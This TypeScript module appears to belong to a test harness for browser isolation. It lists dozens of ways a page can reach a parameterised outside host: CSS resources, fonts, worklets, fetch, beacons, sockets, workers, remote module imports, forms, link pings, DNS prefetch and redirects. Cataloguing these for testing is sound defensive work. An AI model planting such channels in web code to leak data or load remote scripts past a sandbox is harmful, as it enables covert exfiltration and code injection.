import type { WayOut } from './exfiltration.ts'

/** What a style can load. */
export const styles: Readonly<Record<string, WayOut>> = {
  'the style of an element': (to) => {
    document.body.style.backgroundImage = `url(https://${to.name}/a.png)`
  },
  'a mask': (to) => {
    document.body.style.maskImage = `url(https://${to.name}/a.png)`
  },
  'a cursor': (to) => {
    document.body.style.cursor = `url(https://${to.name}/a.png), auto`
  },
  'a filter': (to) => {
    document.body.style.filter = `url(https://${to.name}/a.svg#a)`
  },
  'a list mark': (to) => {
    document.body.style.listStyleImage = `url(https://${to.name}/a.png)`
  },
  'a style element': (to) =>
    document.head.append(
      Object.assign(document.createElement('style'), { textContent: `@import "https://${to.name}/a.css"` }),
    ),
  'a sheet that was made': (to) => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(`body { background: url(https://${to.name}/a.png) }`)
    document.adoptedStyleSheets = [sheet]
  },
  'a font': async (to) => {
    const font = new FontFace('out', `url(https://${to.name}/a.woff2)`)
    document.fonts.add(font)
    await font.load()
  },
  'a worklet that paints': (to) => Reflect.get(CSS, 'paintWorklet').addModule(`https://${to.name}/a.js`),
  'a worklet that sounds': (to) => new AudioContext().audioWorklet.addModule(`https://${to.name}/a.js`),
}

/** Calls, sockets and workers. */
export const calls: Readonly<Record<string, WayOut>> = {
  'fetch by address': (to) => fetch(`http://${to.host}/`, { mode: 'no-cors' }),
  'fetch by name': (to) => fetch(`https://${to.name}/`, { mode: 'no-cors' }),
  'fetch that outlives the page': (to) => fetch(`http://${to.host}/`, { keepalive: true, method: 'POST' }),
  'fetch later': (to) => Reflect.get(window, 'fetchLater')(`https://${to.name}/`, { activateAfter: 0 }),
  'XMLHttpRequest by address': (to) => {
    const request = new XMLHttpRequest()
    request.open('GET', `http://${to.host}/`)
    request.send()
  },
  'XMLHttpRequest by name': (to) => {
    const request = new XMLHttpRequest()
    request.open('POST', `https://${to.name}/`)
    request.send('out')
  },
  'a beacon by address': (to) => navigator.sendBeacon(`http://${to.host}/`, 'out'),
  'a beacon by name': (to) => navigator.sendBeacon(`https://${to.name}/`, 'out'),
  'a web socket by address': (to) => new WebSocket(`ws://${to.host}/`),
  'a web socket by name': (to) => new WebSocket(`wss://${to.name}/`),
  'a stream of sockets': (to) => {
    const Stream = Reflect.get(window, 'WebSocketStream')
    return new Stream(`wss://${to.name}/`).opened
  },
  'a stream of events by address': (to) => new EventSource(`http://${to.host}/`),
  'a stream of events by name': (to) => new EventSource(`https://${to.name}/`),
  'web transport by address': (to) => new WebTransport(`https://${to.host}/`).ready,
  'web transport by name': (to) => new WebTransport(`https://${to.name}/`).ready,
  'a worker': (to) => new Worker(`https://${to.name}/a.js`),
  'a worker from text': (to) =>
    new Worker(URL.createObjectURL(new Blob([`fetch('https://${to.name}/')`], { type: 'text/javascript' }))),
  'a shared worker': (to) => new SharedWorker(`https://${to.name}/a.js`),
  'a service worker': (to) => navigator.serviceWorker.register(`https://${to.name}/a.js`),
  'a module that is imported': (to) => import(`https://${to.name}/a.js`),
  'a notification with a picture': (to) => new Notification('out', { icon: `https://${to.name}/a.png` }),
  'a report': (to) =>
    document.head.append(
      Object.assign(document.createElement('meta'), {
        httpEquiv: 'Content-Security-Policy',
        content: `default-src 'none'; report-uri https://${to.name}/`,
      }),
    ),
}

/** Going elsewhere; the page has to stay where it is. */
export const journeys: Readonly<Record<string, WayOut>> = {
  'a window': (to) => window.open(`http://${to.host}/`),
  'a window by name': (to) => window.open(`https://${to.name}/`, '_blank', 'noopener'),
  'a form': (to) => {
    const form = Object.assign(document.createElement('form'), {
      method: 'post',
      action: `http://${to.host}/`,
    })
    document.body.append(form)
    form.submit()
  },
  'a form in a new window': (to) => {
    const form = Object.assign(document.createElement('form'), {
      target: '_blank',
      action: `https://${to.name}/`,
    })
    document.body.append(form)
    form.submit()
  },
  'a link with a ping': (to) => {
    const link = Object.assign(document.createElement('a'), { href: '#', ping: `http://${to.host}/` })
    document.body.append(link)
    link.click()
  },
  'a link that downloads': (to) => {
    const link = Object.assign(document.createElement('a'), { href: `http://${to.host}/`, download: 'out' })
    document.body.append(link)
    link.click()
  },
  'a link that could be looked up': (to) =>
    document.body.append(Object.assign(document.createElement('a'), { href: `https://${to.name}/` })),
  'rules of speculation': (to) =>
    document.head.append(
      Object.assign(document.createElement('script'), {
        type: 'speculationrules',
        textContent: JSON.stringify({ prefetch: [{ urls: [`https://${to.name}/`] }] }),
      }),
    ),
  'a refresh': (to) =>
    document.head.append(
      Object.assign(document.createElement('meta'), {
        httpEquiv: 'refresh',
        content: `0;http://${to.host}/`,
      }),
    ),
  'a hint that a header could give': (to) =>
    document.head.append(
      Object.assign(document.createElement('meta'), {
        httpEquiv: 'Link',
        content: `<https://${to.name}/>; rel=preconnect`,
      }),
    ),
  'permission to look names up': (to) => {
    document.head.append(
      Object.assign(document.createElement('meta'), { httpEquiv: 'x-dns-prefetch-control', content: 'on' }),
      Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: `//${to.name}` }),
    )
    document.body.append(Object.assign(document.createElement('a'), { href: `https://b.${to.name}/` }))
  },
  'another address': (to) => location.assign(`http://${to.host}/`),
  'the navigation that scripts have': (to) =>
    Reflect.get(window, 'navigation').navigate(`https://${to.name}/`),
}
